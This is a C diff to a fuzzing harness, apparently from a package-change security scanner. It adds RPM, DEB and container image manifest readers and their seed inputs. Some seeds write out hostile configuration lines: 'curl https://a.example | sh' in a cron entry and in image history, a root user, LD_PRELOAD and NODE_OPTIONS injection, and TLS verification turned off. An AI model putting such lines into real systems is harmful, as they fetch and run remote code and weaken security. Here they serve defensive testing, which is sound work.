@@ -84,9 +84,13 @@ static const struct {
 	{&reader_trust, "index.html"},
 	{&reader_trust, "etc/cron.d/x"},
 	{&reader_trust, "a.entitlements"},
+	{&reader_manifest, "x.rpm!/[rpm header].txt"},
+	{&reader_manifest, "x.deb!/control.tar.xz!/triggers"},
+	{&reader_manifest, "x.rpm!/[signature].txt"},
+	{&reader_image_lines, "x.tar!/[image]"},
 };
 
-enum { PACKAGE_JSON = 0, LOCKFILE = 1, INSTALL_LINES = 4, INSTALL = 9, BATCH = 26, TRUST = 27, KINDS = sizeof(kinds) / sizeof(kinds[0]) };
+enum { PACKAGE_JSON = 0, LOCKFILE = 1, INSTALL_LINES = 4, INSTALL = 9, BATCH = 26, TRUST = 27, PACKAGES = 32, KINDS = sizeof(kinds) / sizeof(kinds[0]) };
 
 static uint64_t once(
 	size_t kind, const uint8_t *old, size_t old_len, const uint8_t *new_, size_t new_len)
@@ -192,6 +196,22 @@ void fuzz_seeds(void (*run)(const void *bytes, size_t n))
 		"<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'self'\">",
 		"* * * * * root curl https://a.example | sh\n",
 		"<plist><key>com.apple.security.get-task-allow</key><true/>sha256/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=-----BEGIN CERTIFICATE-----\nAA\n-----END CERTIFICATE-----",
+		"Name: a\nVersion: 2\nVendor: Y\nPackager: z\nURL: u\nSignature: CN=a\nRequires: /bin/sh\nRequires: curl >= 1\n",
+		"interest x\n# c\nactivate-noawait y\n",
+		"Signature: CN=a, O=A\n",
+		"cmd curl https://a.example | sh\nentrypoint /bin/a\nenv LD_PRELOAD=/x.so\nenv GIT_SSL_NO_VERIFY=1\nuser root\nhistory RUN id\n",
+	};
+	static const struct {
+		size_t kind;
+		const char *old, *new_;
+	} changed[] = {
+		{PACKAGES, "Name: b\nVersion: 1\nVendor: X\nURL: t\nSignature: CN=b, O=B\nRequires: x\n",
+			"Name: a\nVersion: 2\nVendor: Y\nPackager: z\nSignature: none\nRequires: /bin/sh\nRequires: curl >= 1\nRequires: rpmlib(a)\nRequires: liba.so\n"},
+		{PACKAGES + 1, "interest x\n", "interest x\ninterest /usr/bin\n"},
+		{PACKAGES + 2, "Signature: CN=a, O=A\n", "Signature: CN=b, O=B\n"},
+		{PACKAGES + 3, "cmd nginx\nuser app:app\nenv A=b\n",
+			"cmd sh -c id\nuser 0:0\nenv NODE_OPTIONS=--require=/x\nenv NODE_TLS_REJECT_UNAUTHORIZED=0\nhistory RUN curl https://a.example | sh\n"},
+		{PACKAGES + 3, "user app\n", "user\n"},
 	};
 	char room[1024];
 
@@ -209,10 +229,16 @@ void fuzz_seeds(void (*run)(const void *bytes, size_t n))
 			memcpy(room + 1, seeds[k], b);
 			run(room, b + 1);
 		}
+	for (size_t i = 0; i < sizeof(changed) / sizeof(changed[0]); i++) {
+		int n = snprintf(room, sizeof(room), "%c%s\xff%s", (char)changed[i].kind, changed[i].old, changed[i].new_);
+
+		run(room, (size_t)n);
+	}
 	literals_as(PACKAGE_JSON, LOCKFILE, "read/test_package_json.c", run);
 	literals_as(LOCKFILE, INSTALL_LINES, "read/test_lockfile.c", run);
 	literals_as(INSTALL_LINES, INSTALL, "read/test_manifest.c", run);
 	literals_as(INSTALL, BATCH, "read/test_install.c", run);
 	literals_as(BATCH, TRUST, "read/test_batch.c", run);
-	literals_as(TRUST, KINDS, "read/test_trust.c", run);
+	literals_as(TRUST, PACKAGES, "read/test_trust.c", run);
+	literals_as(PACKAGES, KINDS, "read/test_manifest.c", run);
 }
